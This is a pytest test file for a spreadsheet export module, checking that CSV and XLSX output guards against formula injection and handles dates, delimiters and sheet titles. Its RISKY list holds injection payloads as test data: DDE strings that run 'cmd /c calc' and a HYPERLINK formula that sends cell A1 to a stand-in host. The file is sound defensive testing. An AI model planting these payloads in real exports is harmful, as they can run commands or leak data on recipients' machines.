import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.exports.spreadsheets import rows_to_csv, rows_to_xlsx, unguarded

RISKY = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"click")',
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "-cmd|'/c calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    " =1+1",
    "   +A1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000@A1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋A1",
    "＠SUM(A1)",
    "+",
    "-",
    "=",
    "+45 12 34 56 78 =1",
    "+45 12",
    "-12345678 90",
    "'=1+1",
    "''-A1",
]
HARMLESS = [
    "",
    "Zoë Ångström",
    "a=b",
    "1-2",
    "'",
    "'quoted'",
    "+45 12 34 56 78",
    "+4512345678",
    "+45 (0)12-34.56 78",
    "'+45 12345678",
    "-5",
    "+45",
    "+7.25",
    "-1,5",
]


def csv_rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def sheet_of(data: bytes) -> list[list[object]]:
    (sheet,) = load_workbook(io.BytesIO(data)).worksheets
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", RISKY)
def test_a_text_that_would_run_gets_an_apostrophe_and_loses_nothing(text: str) -> None:
    (_, (field,)) = csv_rows(rows_to_csv(["Name"], [[text]]))
    assert field == "'" + text
    assert unguarded(field) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_or_a_telephone_number_stands_as_it_is(text: str) -> None:
    (_, (field,)) = csv_rows(rows_to_csv(["Name"], [[text]]))
    assert field == text
    assert unguarded(field) == text


def test_csv_begins_with_a_mark_and_quotes_every_field() -> None:
    assert rows_to_csv(["Navn", "=Tal"], [['Bjørn; "B"', 3], [None, Decimal("-1.50")]]) == (
        b"\xef\xbb\xbf" + '"Navn","\'=Tal"\r\n"Bjørn; ""B""","3"\r\n"","-1.50"\r\n'.encode()
    )


def test_csv_takes_another_delimiter() -> None:
    data = rows_to_csv(["a", "b"], [["1;2", "3"]], delimiter=";")
    assert csv_rows(data, ";") == [["a", "b"], ["1;2", "3"]]


def test_moments_are_told_in_iso_8601() -> None:
    moment = datetime(2027, 2, 4, 9, 20, tzinfo=UTC)
    assert csv_rows(rows_to_csv(["a", "b"], [[moment, date(2027, 2, 4)]]))[1] == [
        "2027-02-04T09:20:00+00:00",
        "2027-02-04",
    ]
    assert sheet_of(rows_to_xlsx("x", ["a", "b"], [[moment, date(2027, 2, 4)]]))[1] == [
        "2027-02-04T09:20:00+00:00",
        datetime(2027, 2, 4),  # noqa: DTZ001
    ]


texts = st.lists(st.sampled_from([*RISKY, *"'=+-@ \t\r\n\0;,\""]) | st.text(max_size=5), max_size=6).map(
    "".join
)


@given(st.lists(st.lists(texts, min_size=2, max_size=2), max_size=5))
def test_csv_gives_every_text_back(rows: list[list[str]]) -> None:
    read = csv_rows(rows_to_csv(["a", "b"], rows))
    assert [[unguarded(field) for field in row] for row in read] == [["a", "b"], *rows]


@pytest.mark.parametrize("text", [*RISKY, "#N/A", "TRUE", "007", "{=1+1}"])
def test_an_xlsx_text_is_a_text_and_never_a_formula(text: str) -> None:
    data = rows_to_xlsx("List", ["=Heading"], [[text]])
    (sheet,) = load_workbook(io.BytesIO(data)).worksheets
    assert [cell.data_type for (cell,) in sheet.iter_rows()] == ["s", "s"]
    expected = re.sub("[\0\ufeff]", "", text).replace("\r", "\n")
    assert [cell.value for (cell,) in sheet.iter_rows()] == ["=Heading", expected]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert re.search(rb"<f[ >/]", xml) is None


def test_xlsx_keeps_numbers_as_numbers_and_gaps_as_gaps() -> None:
    rows = [[3, 1.5, Decimal("2.25"), None, True, float("nan")]]
    assert sheet_of(rows_to_xlsx("x", list("abcdef"), rows))[1] == [3, 1.5, 2.25, None, True, "nan"]


def test_xlsx_cuts_what_a_cell_cannot_hold() -> None:
    assert sheet_of(rows_to_xlsx("x", ["a"], [["æ" * 40_000]]))[1] == ["æ" * 32_767]


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("Participants", "Participants"),
        ("Camp 2027/28: [all]*?", "Camp 2027 28 all"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        (":", "Sheet"),
        ("", "Sheet"),
    ],
)
def test_a_sheet_has_a_title_that_excel_allows(title: str, shown: str) -> None:
    assert load_workbook(io.BytesIO(rows_to_xlsx(title, ["a"], []))).sheetnames == [shown]


def test_equal_rows_give_an_equal_workbook_without_the_time_of_day() -> None:
    data = rows_to_xlsx("List", ["Name"], [["Zoë"]])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {entry.date_time[:3] for entry in archive.infolist()} == {(1980, 1, 1)}
        core = archive.read("docProps/core.xml").decode()
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {"1980-01-01T00:00:00Z"}
    assert data == rows_to_xlsx("List", ["Name"], [["Zoë"]])
